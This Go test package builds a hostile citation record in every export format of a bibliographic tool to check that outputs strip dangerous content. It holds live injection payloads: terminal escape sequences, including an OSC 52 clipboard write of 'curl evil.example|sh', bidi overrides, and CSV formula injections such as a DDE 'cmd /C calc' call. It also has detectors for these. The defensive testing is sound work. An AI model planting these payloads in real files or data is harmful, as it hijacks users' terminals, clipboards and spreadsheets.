// Package hostile is the one hostile record the attack tests feed through
// every reader and every output: terminal escape sequences (OSC title
// changes, OSC 52 clipboard writes, OSC 8 links, CSI screen clears and
// colours), C0 and C1 controls, bidirectional overrides and isolates, NUL,
// CSV formulas, a hostile DOI and a hostile PMID. Every format writes the
// same record; XML cannot carry C0 characters at all, so the XML formats
// carry the part XML allows (the C1 and bidi attacks) and a C0 attack
// makes the whole XML file unreadable, which is tested on its own.
package hostile

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"strings"
	"unicode/utf8"
)

// Word is a word found only in the hostile records, to search them.
const Word = "zorbulax"

// Escape sequences that act in a terminal when written raw.
const (
	OSCTitle     = "\x1b]0;PWNED-TITLE\x07"
	OSC52        = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07" // "curl evil.example|sh" on the clipboard
	OSC8         = "\x1b]8;;http://evil.example/\x1b\\CLICKME\x1b]8;;\x1b\\"
	CSIClear     = "\x1b[2J\x1b[H\x1b[31;5m"
	C1           = "\u009b2J\u009d2;PWNED-C1\u009c\u009b31m"
	Bidi         = "\u202eevil\u202c\u2066x\u2069"
	C0           = "\x00\x01\x07\x08\x7f"
	Formula      = "=HYPERLINK(\"http://formula.test/f\",\"x\")"
	CmdFormula   = "=cmd|' /C calc'!A0"
	PMIDAttack   = "77\x1b]0;PWNED-PMID\x07\x1b[2J"
	PMIDAttackC1 = "77\u009d0;PWNED-PMID\u009c"
)

// Payload is what every text field carries: all the attacks when the
// format can hold them, the XML-safe part otherwise.
func Payload(xmlSafe bool) string {
	if xmlSafe {
		return C1 + Bidi
	}
	return OSCTitle + OSC52 + OSC8 + CSIClear + C1 + Bidi + C0
}

// Leftovers are strings that only an escape sequence's payload holds: none
// may reach any output, raw or as text.
var Leftovers = []string{"PWNED", "evil.example", "Y3VybCBldmlsLmV4YW1wbGV8c2g"}

// Record is the hostile record's fields, each with its payload.
type Record struct {
	PMID, DOI, Title, Abstract, Author, Journal, Month, Volume, Issue, Pages, PubType, MeSH, Keyword, Language string
}

// New returns the hostile record for one PMID.
func New(pmid string, xmlSafe bool) Record {
	p := Payload(xmlSafe)
	return Record{
		PMID:     pmid,
		DOI:      "10.1000/" + Word + strings.Map(digitsOnly, pmid) + p, // distinct, or imports de-duplicate by DOI
		Title:    Formula + " " + Word + " title " + p,
		Abstract: "Abstract " + Word + " " + p + " end",
		Author:   "@Evil" + p,
		Journal:  CmdFormula + p,
		Month:    "Jun",
		Volume:   "+1" + p,
		Issue:    "-2" + p,
		Pages:    "\t3" + p,
		PubType:  "Journal Article" + p,
		MeSH:     "Alopecia" + p,
		Keyword:  "-keyword" + p,
		Language: "eng" + p,
	}
}

func digitsOnly(r rune) rune {
	if r >= '0' && r <= '9' {
		return r
	}
	return -1
}

// JSONL writes the record as Follicle JSON Lines.
func (r Record) JSONL() []byte {
	b, _ := json.Marshal(map[string]any{"pmid": r.PMID, "doi": r.DOI, "title": r.Title, "authors": []string{r.Author},
		"journal": r.Journal, "year": 2020, "month": r.Month + Payload(false), "volume": r.Volume, "issue": r.Issue,
		"pages": r.Pages, "pub_types": []string{r.PubType}, "mesh": []string{r.MeSH}, "keywords": []string{r.Keyword},
		"language": r.Language, "abstract": []map[string]string{{"label": "BACKGROUND" + Payload(false), "text": r.Abstract}}})
	return append(b, '\n')
}

// MEDLINE writes the record as MEDLINE tagged text (one line per field:
// the format has no way to put a line break in a value).
func (r Record) MEDLINE() []byte {
	var b bytes.Buffer
	for _, f := range [][2]string{{"PMID", r.PMID}, {"TI", r.Title}, {"AB", r.Abstract}, {"AU", r.Author},
		{"TA", r.Journal}, {"DP", "2020 " + r.Month}, {"VI", r.Volume}, {"IP", r.Issue}, {"PG", r.Pages},
		{"LID", r.DOI + " [doi]"}, {"PT", r.PubType}, {"MH", r.MeSH}, {"OT", r.Keyword}, {"LA", r.Language}} {
		fmt.Fprintf(&b, "%-4s- %s\n", f[0], f[1])
	}
	b.WriteString("\n")
	return b.Bytes()
}

func esc(s string) string {
	var b strings.Builder
	xml.EscapeText(&b, []byte(s))
	return b.String()
}

// PubMedXML writes the records as a PubmedArticleSet.
func PubMedXML(recs ...Record) []byte {
	var b bytes.Buffer
	b.WriteString("<?xml version=\"1.0\"?>\n<PubmedArticleSet>\n")
	for _, r := range recs {
		fmt.Fprintf(&b, `<PubmedArticle><MedlineCitation><PMID Version="1">%s</PMID><Article><Journal><JournalIssue>`+
			`<Volume>%s</Volume><Issue>%s</Issue><PubDate><Year>2020</Year><Month>%s</Month></PubDate></JournalIssue>`+
			`<Title>%s</Title></Journal><ArticleTitle>%s</ArticleTitle><Pagination><MedlinePgn>%s</MedlinePgn></Pagination>`+
			`<Abstract><AbstractText Label="BACKGROUND%s">%s</AbstractText></Abstract>`+
			`<AuthorList><Author><LastName>%s</LastName><Initials>A%s</Initials></Author></AuthorList><Language>%s</Language>`+
			`<PublicationTypeList><PublicationType>%s</PublicationType></PublicationTypeList></Article>`+
			`<MedlineJournalInfo><MedlineTA>%s</MedlineTA></MedlineJournalInfo>`+
			`<ChemicalList><Chemical><NameOfSubstance UI="D1%s">chem%s</NameOfSubstance></Chemical></ChemicalList>`+
			`<MeshHeadingList><MeshHeading><DescriptorName UI="D2%s">%s</DescriptorName><QualifierName>q%s</QualifierName></MeshHeading></MeshHeadingList>`+
			`<KeywordList><Keyword>%s</Keyword></KeywordList></MedlineCitation>`+
			`<PubmedData><ArticleIdList><ArticleId IdType="doi">%s</ArticleId></ArticleIdList></PubmedData></PubmedArticle>`+"\n",
			esc(r.PMID), esc(r.Volume), esc(r.Issue), esc(r.Month), esc(r.Journal), esc(r.Title), esc(r.Pages),
			esc(Payload(true)), esc(r.Abstract), esc(r.Author), esc(Payload(true)), esc(r.Language), esc(r.PubType), esc(r.Journal),
			esc(Payload(true)), esc(Payload(true)), esc(Payload(true)), esc(r.MeSH), esc(Payload(true)), esc(r.Keyword), esc(r.DOI))
	}
	b.WriteString("</PubmedArticleSet>\n")
	return b.Bytes()
}

// PubTator writes the record as a PubTator document with one mention.
func (r Record) PubTator() []byte {
	title := r.Title + " " + r.Journal + " " + r.Author + " " + r.DOI
	return []byte(fmt.Sprintf("%s|t|%s\n%s|a|%s\n%s\t0\t3\t%s\tChemical\tD1%s\n\n",
		r.PMID, title, r.PMID, r.Abstract, r.PMID, "x"+Payload(false), Payload(false)))
}

// BioC writes the records as a BioC collection.
func BioC(recs ...Record) []byte {
	var b bytes.Buffer
	b.WriteString("<?xml version=\"1.0\"?>\n<collection><source>PubTator</source>\n")
	for _, r := range recs {
		fmt.Fprintf(&b, `<document><id>%s</id><passage><infon key="type">title</infon><offset>0</offset><text>%s</text>`+
			`<annotation id="1"><infon key="type">Chemical%s</infon><infon key="identifier">D1%s</infon>`+
			`<location offset="0" length="3"/><text>x%s</text></annotation></passage>`+
			`<passage><infon key="type">abstract</infon><offset>100</offset><text>%s</text></passage></document>`+"\n",
			esc(r.PMID), esc(r.Title+" "+r.Journal+" "+r.DOI), esc(Payload(true)), esc(Payload(true)), esc(Payload(true)), esc(r.Abstract))
	}
	b.WriteString("</collection>\n")
	return b.Bytes()
}

// PubMedCSV writes the records as PubMed's "Save → CSV".
func PubMedCSV(recs ...Record) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write([]string{"PMID", "Title", "Authors", "Citation", "First Author", "Journal/Book", "Publication Year", "Create Date", "PMCID", "NIHMS ID", "DOI"})
	for _, r := range recs {
		citation := r.Journal + ". 2020 Jun;" + r.Volume + "(" + r.Issue + "):" + r.Pages + "."
		w.Write([]string{r.PMID, r.Title, r.Author + ".", citation, r.Author, r.Journal, "2020", "2020/06/01", "", "", r.DOI})
	}
	w.Flush()
	return b.Bytes()
}

// CheckPlain reports the first byte of out that could act in a terminal:
// a C0 control other than line feed and tab, DEL, a C1 control (raw or
// UTF-8), a bidi control, invalid UTF-8, or a leftover of an escape
// sequence's payload. name says which output it was.
func CheckPlain(name string, out []byte) error {
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRune(out[i:])
		switch {
		case r == utf8.RuneError && size <= 1:
			return fmt.Errorf("%s: invalid UTF-8 byte %#x at %d: %q", name, out[i], i, around(out, i))
		case r == '\n' || r == '\t' || r == '\r' && i+1 < len(out) && out[i+1] == '\n': // RIS ends lines with CR LF
		case IsControl(r):
			return fmt.Errorf("%s: control %U at byte %d: %q", name, r, i, around(out, i))
		}
		i += size
	}
	return checkLeftovers(name, out)
}

// IsControl reports the characters no output may carry from a record:
// C0, DEL, C1, and the bidi marks, embeddings, overrides and isolates.
func IsControl(r rune) bool {
	return r < 0x20 || (r >= 0x7f && r < 0xa0) || r == 0x200e || r == 0x200f || r == 0x061c ||
		(r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069)
}

func checkLeftovers(name string, out []byte) error {
	for _, l := range Leftovers {
		if i := bytes.Index(out, []byte(l)); i >= 0 {
			return fmt.Errorf("%s: escape payload %q reached the output: %q", name, l, around(out, i))
		}
	}
	return nil
}

func around(b []byte, i int) string {
	lo, hi := max(0, i-40), min(len(b), i+40)
	return string(b[lo:hi])
}
